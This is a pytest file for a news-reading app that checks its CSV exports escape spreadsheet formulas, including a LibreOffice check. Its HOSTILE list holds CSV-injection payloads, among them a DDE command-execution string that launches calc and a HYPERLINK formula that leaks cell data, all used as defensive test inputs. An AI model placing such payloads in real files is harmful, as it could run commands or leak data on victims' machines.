"""Every CSV Reader writes is formula-safe (issue 13, item 6), through the one CSV writer.

Names that come from articles and users (entities, speakers, sources, labels, languages,
annotators) are written as text: a cell a spreadsheet would run as a formula gets a
leading apostrophe; `--raw` writes them as they are.
"""

from __future__ import annotations

import ast
import csv
import io
import os
import shutil
import subprocess
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest
from click.testing import CliRunner

from reader.cli import cli
from reader.cli.stats import CHOICES
from reader.exporters.copy_text import annotations_to_csv_text
from reader.exporters.csv_safe import FORMULA_PREFIXES
from reader.library import Library
from reader.model import ParsedArticle

PKG = Path(__file__).resolve().parent.parent / "reader"
# What a spreadsheet would run; each one becomes an entity, a speaker, a source, a label,
# a language and an annotator of the library below.
HOSTILE = [
    "=1+1 ent0",
    "+1+1",
    "\t=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.org/?leak="&A1,"click")',
    "-2+3",
    "@SUM(1+1)",
    "\r=1+1",
]


@pytest.fixture(scope="module")
def hostile_lib(tmp_path_factory) -> Library:
    path = tmp_path_factory.mktemp("csv") / "library.db"
    with Library(path) as lib:
        shared = lib.create_entity("=SUM(9)", "LOCATION")  # named with each one: co-occurrence
        for i, name in enumerate(HOSTILE):
            text = f"Someone said “the plan number {i} works” on the day."
            lib.annotator = name
            _, article_id = lib.add_article(
                ParsedArticle(
                    title=f"Article {i}",
                    markdown=text + "\n",
                    source=name,
                    language=name,
                    published="2025-03-01",
                )
            )
            entity = lib.create_entity(f"{name} {i}", "PERSON")
            start = text.index("the plan")
            end = text.index("”")
            lib.annotate(article_id, "quote", start, end, speaker_id=entity.id)
            lib.annotate(article_id, "entity", 0, 7, label=name, entity_id=entity.id)
            lib.annotate(article_id, "highlight", 8, 12, label=name)
            day = text.index("day")
            lib.annotate(article_id, "entity", day, day + 3, entity_id=shared.id)
        yield lib


def stored_names(lib: Library) -> set[str]:
    """Every hostile string as the library keeps it (entity names are whitespace-normalised)."""
    names = {" ".join(e.name.split()) for e in lib.entities()}
    return names | set(HOSTILE)


def unsafe_cells(rows: list[list[str]]) -> list[str]:
    return [c for row in rows for c in row if c.startswith(FORMULA_PREFIXES)]


def parse(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def read_csv(path: Path) -> list[list[str]]:
    with open(path, encoding="utf-8", newline="") as f:  # keep a CR inside a cell
        return parse(f.read())


def stats_csv(lib: Library, statistic: str, *extra: str) -> list[list[str]]:
    r = CliRunner().invoke(
        cli, ["--db", str(lib.path), "stats", statistic, "--format", "csv", *extra]
    )
    assert r.exit_code == 0, r.output
    return parse(r.output)


@pytest.mark.parametrize("statistic", CHOICES)
def test_stats_csv_is_formula_safe_and_raw_turns_it_off(hostile_lib, statistic):
    rows = stats_csv(hostile_lib, statistic)
    raw = stats_csv(hostile_lib, statistic, "--raw")
    assert len(rows) == len(raw) > 1
    assert unsafe_cells(rows) == []
    hostile_cells = unsafe_cells(raw)
    if statistic not in ("timeline",):
        assert hostile_cells, statistic  # every other statistic names hostile things
    # the same cells, each with one apostrophe in front, and nothing else changed
    expected = [["'" + c if c.startswith(FORMULA_PREFIXES) else c for c in r] for r in raw]
    assert rows == expected


def test_stats_csv_names_every_hostile_kind(hostile_lib):
    raw = {s: {c for r in stats_csv(hostile_lib, s, "--raw") for c in r} for s in CHOICES}
    from reader.store.sources import source_key

    for name in HOSTILE:
        for statistic in ("languages", "annotators", "labels"):
            assert name in raw[statistic], (statistic, name)
        # "\t=1+1" and "\r=1+1" differ only in spacing: one source, shown as first imported
        assert source_key(name) in {source_key(c) for c in raw["sources"]}, name
    speakers = {" ".join(f"{n} {i}".split()) for i, n in enumerate(HOSTILE)}
    assert speakers <= raw["speakers"] and speakers <= raw["entities"]


def test_statistics_window_save_csv_is_formula_safe(tmp_path, hostile_lib):
    pytest.importorskip("PySide6")
    from reader.gui.stats.export import save_csv

    for statistic in CHOICES:
        table = hostile_lib.statistic(statistic)
        save_csv(table, tmp_path / "safe.csv")
        save_csv(table, tmp_path / "raw.csv", raw=True)
        rows = read_csv(tmp_path / "safe.csv")
        raw = read_csv(tmp_path / "raw.csv")
        assert unsafe_cells(rows) == [], statistic
        assert rows == [
            ["'" + c if c.startswith(FORMULA_PREFIXES) else c for c in r] for r in raw
        ], statistic
        assert raw == [
            list(table.columns),
            *[["" if v is None else str(v) for v in r] for r in table.rows],
        ]


@pytest.mark.parametrize(
    "command",
    [
        ["export", "articles", "--format", "csv"],
        ["export", "annotations", "--format", "csv"],
        ["export", "annotations", "--format", "csv", "--excel"],
    ],
)
def test_every_csv_export_is_formula_safe(tmp_path, hostile_lib, command):
    out, raw_out = tmp_path / "safe.csv", tmp_path / "raw.csv"
    runner = CliRunner()
    db = ["--db", str(hostile_lib.path)]
    assert runner.invoke(cli, [*db, *command, "-o", str(out)]).exit_code == 0
    assert runner.invoke(cli, [*db, *command, "-o", str(raw_out), "--raw"]).exit_code == 0
    rows = read_csv(out)
    raw = read_csv(raw_out)
    assert unsafe_cells(rows) == []
    assert set(HOSTILE) & {c for r in raw for c in r}
    assert rows == [["'" + c if c.startswith(FORMULA_PREFIXES) else c for c in r] for r in raw]


def test_copy_as_csv_is_formula_safe(hostile_lib):
    rows = list(hostile_lib.annotation_rows())
    safe = parse(annotations_to_csv_text(rows))
    raw = parse(annotations_to_csv_text(rows, raw=True))
    assert unsafe_cells(safe) == [] and unsafe_cells(raw)


def _imports_csv(node: ast.AST) -> bool:
    if isinstance(node, ast.Import):
        return any(a.name == "csv" for a in node.names)
    return isinstance(node, ast.ImportFrom) and node.module == "csv"


def test_one_csv_writer_for_the_whole_project():
    """Only reader/exporters/csv_safe.py uses the csv module to write."""
    users = [
        path.relative_to(PKG).as_posix()
        for path in sorted(PKG.rglob("*.py"))
        if any(map(_imports_csv, ast.walk(ast.parse(path.read_text(encoding="utf-8")))))
    ]
    assert users == ["exporters/csv_safe.py"]


# -- LibreOffice: the real spreadsheet opens the file, and nothing is a formula ---------

SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
TABLE_NS = "urn:oasis:names:tc:opendocument:xmlns:table:1.0"
# Comma, double quote, UTF-8, from line 1, standard cells, language, quoted fields as text
# false, detect special numbers true, …, token 13: evaluate formulas true.
CSV_FILTER = '"Text - txt - csv (StarCalc)":44,34,76,1,,0,false,true,false,false,false,-1,true'


def _formulas_in(csv_path: Path, tmp_path: Path) -> list[str]:
    """The formulas LibreOffice Calc finds when it opens `csv_path` (converted to .fods)."""
    profile = tmp_path / "lo-profile"
    subprocess.run(
        [
            SOFFICE,
            f"-env:UserInstallation=file://{profile}",
            "--headless",
            f"--infilter={CSV_FILTER}",
            "--convert-to",
            "fods",
            "--outdir",
            str(tmp_path),
            str(csv_path),
        ],
        check=True,
        capture_output=True,
        timeout=120,
        env={**os.environ, "HOME": str(tmp_path)},
    )
    root = ET.parse(tmp_path / (csv_path.stem + ".fods")).getroot()
    return [
        cell.get(f"{{{TABLE_NS}}}formula")
        for cell in root.iter(f"{{{TABLE_NS}}}table-cell")
        if cell.get(f"{{{TABLE_NS}}}formula")
    ]


@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice is not installed (libreoffice-calc-nogui)")
def test_libreoffice_finds_no_formula_in_a_stats_csv(tmp_path, hostile_lib):
    runner = CliRunner()
    db = ["--db", str(hostile_lib.path)]
    for name, extra in (("safe", []), ("raw", ["--raw"])):
        r = runner.invoke(cli, [*db, "stats", "sources", "--format", "csv", *extra])
        (tmp_path / f"{name}.csv").write_text(r.output, encoding="utf-8", newline="")
    # The check can fail: the same names written raw are formulas in LibreOffice.
    raw = _formulas_in(tmp_path / "raw.csv", tmp_path)
    assert {"of:=1+1 ent0", "of:=cmd|' /c calc'!a0"} <= set(raw), raw
    assert any(f.startswith("of:=HYPERLINK(") for f in raw), raw
    assert _formulas_in(tmp_path / "safe.csv", tmp_path) == []


def test_a_formula_like_status_and_an_orphaned_mark(tmp_path):
    """The status column is neutralised from the stored status (the text is read once a
    row): a stored `=x` gets its apostrophe, a mark whose text changed goes out as
    `orphaned`, for every table that has the column."""
    path = tmp_path / "library.db"
    with Library(path) as lib:
        _, article_id = lib.add_article(ParsedArticle(title="T", markdown="Alpha beta gamma.\n"))
        first = lib.annotate(article_id, "quote", 0, 5).id
        second = lib.annotate(article_id, "entity", 6, 10).id
        third = lib.annotate(article_id, "entity", 11, 16).id
        db = lib._store.db
        db.execute("UPDATE annotations SET status = '=x' WHERE id IN (?, ?)", [first, second])
        db.execute("UPDATE annotations SET exact = 'Gamma' WHERE id = ?", [third])
        db.conn.commit()
    runner = CliRunner()
    for table, expected in (
        ("annotations", ["'=x", "'=x", "orphaned"]),
        ("quotes", ["'=x"]),
        ("mentions", ["'=x", "orphaned"]),
    ):
        for raw in (False, True):
            out = tmp_path / f"{table}-{raw}.csv"
            args = ["--db", str(path), "export", "annotations", "--format", "csv"]
            args += ["--table", table, "-o", str(out)] + (["--raw"] if raw else [])
            assert runner.invoke(cli, args).exit_code == 0
            rows = read_csv(out)
            column = rows[0].index("status")
            want = [s.lstrip("'") for s in expected] if raw else expected
            assert [r[column] for r in rows[1:]] == want, (table, raw)
